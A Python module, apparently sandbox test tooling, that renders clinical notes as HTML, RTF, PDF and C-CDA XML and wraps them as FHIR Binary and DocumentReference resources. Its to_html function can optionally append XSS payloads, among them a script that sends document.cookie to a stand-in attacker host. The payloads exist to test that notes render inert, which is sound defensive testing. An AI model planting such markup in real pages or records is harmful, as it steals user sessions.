"""Note renditions: one clinical note's text as Epic-style HTML, RTF, PDF and a C-CDA-style XML.

Real EHRs return a note as DocumentReference metadata plus Binary content: Epic lists a text/html
and a text/rtf rendition, Oracle Health an application/pdf and an application/xml one. Every
scenario note carries all four (the sandbox shows each profile only its own pair), with the same
text in each so extraction can be tested against any of them.
"""

from __future__ import annotations

import base64
import datetime as dt
import html
from xml.sax.saxutils import escape as xml_escape

from fpdf import FPDF

from .factories import LOINC, Resource, concept, ref

NOTE_TYPES = {
    "progress": ("11506-3", "Progress note"),
    "hp": ("34117-2", "History and physical note"),
    "consult": ("11488-4", "Consult note"),
    "therapy": ("11508-9", "Physical therapy Progress note"),
    "daily": ("34109-9", "Physical therapy daily treatment note"),
    "imaging": ("18748-4", "Diagnostic imaging study"),
}
#: Fixed timestamp so the PDFs (and so the bundles) are byte-identical on every build.
PDF_EPOCH = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


def _paragraphs(text: str) -> list[str]:
    return [block.strip() for block in text.strip().split("\n\n") if block.strip()]


def to_html(title: str, text: str, hostile: bool = False) -> str:
    body = "".join(f"<p>{html.escape(p).replace(chr(10), '<br>')}</p>" for p in _paragraphs(text))
    if hostile:
        # Deliberately hostile markup: the app must render this note as inert text.
        body += (
            '<script>document.location="http://attacker.invalid/?c="+document.cookie</script>'
            '<img src="x" onerror="alert(1)">'
            '<a href="javascript:alert(2)">View addendum</a>'
            "<style>body{display:none}</style>"
        )
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8">'
        f"<title>{html.escape(title)}</title></head><body><h2>{html.escape(title)}</h2>"
        f"{body}</body></html>"
    )


def _rtf_escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("{", "\\{").replace("}", "\\}")


def to_rtf(title: str, text: str) -> str:
    lines = [f"\\b {_rtf_escape(title)}\\b0\\par"]
    for paragraph in _paragraphs(text):
        lines.append("\\par ".join(_rtf_escape(line) for line in paragraph.split("\n")) + "\\par")
    return "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0\\fs22\n" + "\n".join(lines) + "\n}"


def to_pdf(title: str, text: str) -> bytes:
    pdf = FPDF()
    pdf.set_creation_date(PDF_EPOCH)
    pdf.set_title(title)
    pdf.add_page()
    pdf.set_font("Helvetica", "B", 13)
    pdf.multi_cell(0, 7, title, new_x="LMARGIN", new_y="NEXT")
    pdf.set_font("Helvetica", size=10)
    for paragraph in _paragraphs(text):
        pdf.multi_cell(0, 5, paragraph, new_x="LMARGIN", new_y="NEXT")
        pdf.ln(2)
    return bytes(pdf.output())


def to_ccda(title: str, text: str, loinc: str, date: str) -> str:
    paragraphs = "".join(f"<paragraph>{xml_escape(p)}</paragraph>" for p in _paragraphs(text))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<ClinicalDocument xmlns="urn:hl7-org:v3">'
        f'<code code="{loinc}" codeSystem="2.16.840.1.113883.6.1"/>'
        f"<title>{xml_escape(title)}</title>"
        f'<effectiveTime value="{date.replace("-", "")}"/>'
        "<component><structuredBody><component><section>"
        f"<title>{xml_escape(title)}</title><text>{paragraphs}</text>"
        "</section></component></structuredBody></component></ClinicalDocument>"
    )


def _binary(binary_id: str, content_type: str, data: bytes) -> Resource:
    return {
        "resourceType": "Binary",
        "id": binary_id,
        "contentType": content_type,
        "data": base64.b64encode(data).decode("ascii"),
    }


def note(
    prefix: str,
    key: str,
    patient: Resource,
    author: Resource,
    encounter: Resource | None,
    date: str,
    kind: str,
    text: str,
    *,
    hostile: bool = False,
) -> list[Resource]:
    """A DocumentReference with four Binary renditions; returns [DocumentReference, *Binaries]."""
    loinc, title = NOTE_TYPES[kind]
    doc_id = f"{prefix}-{key}"
    renditions = [
        ("text/html", "html", to_html(title, text, hostile).encode("utf-8")),
        ("text/rtf", "rtf", to_rtf(title, text).encode("utf-8")),
        ("application/pdf", "pdf", to_pdf(title, text)),
        ("application/xml", "xml", to_ccda(title, text, loinc, date).encode("utf-8")),
    ]
    binaries = [_binary(f"{doc_id}-{suffix}", ctype, data) for ctype, suffix, data in renditions]
    document: Resource = {
        "resourceType": "DocumentReference",
        "id": doc_id,
        "status": "current",
        "docStatus": "final",
        "type": concept((LOINC, loinc, title), text=title),
        "category": [
            concept(
                (
                    "http://hl7.org/fhir/us/core/CodeSystem/us-core-documentreference-category",
                    "clinical-note",
                    "Clinical Note",
                )
            )
        ],
        "subject": ref(patient),
        "date": f"{date}T12:00:00-05:00",
        "author": [ref(author)],
        "content": [
            {
                "attachment": {
                    "contentType": b["contentType"],
                    "url": f"Binary/{b['id']}",
                    "title": title,
                    "creation": f"{date}T12:00:00-05:00",
                }
            }
            for b in binaries
        ],
    }
    if encounter is not None:
        document["context"] = {
            "encounter": [ref(encounter)],
            "period": {"start": f"{date}T09:00:00-05:00"},
        }
    return [document, *binaries]
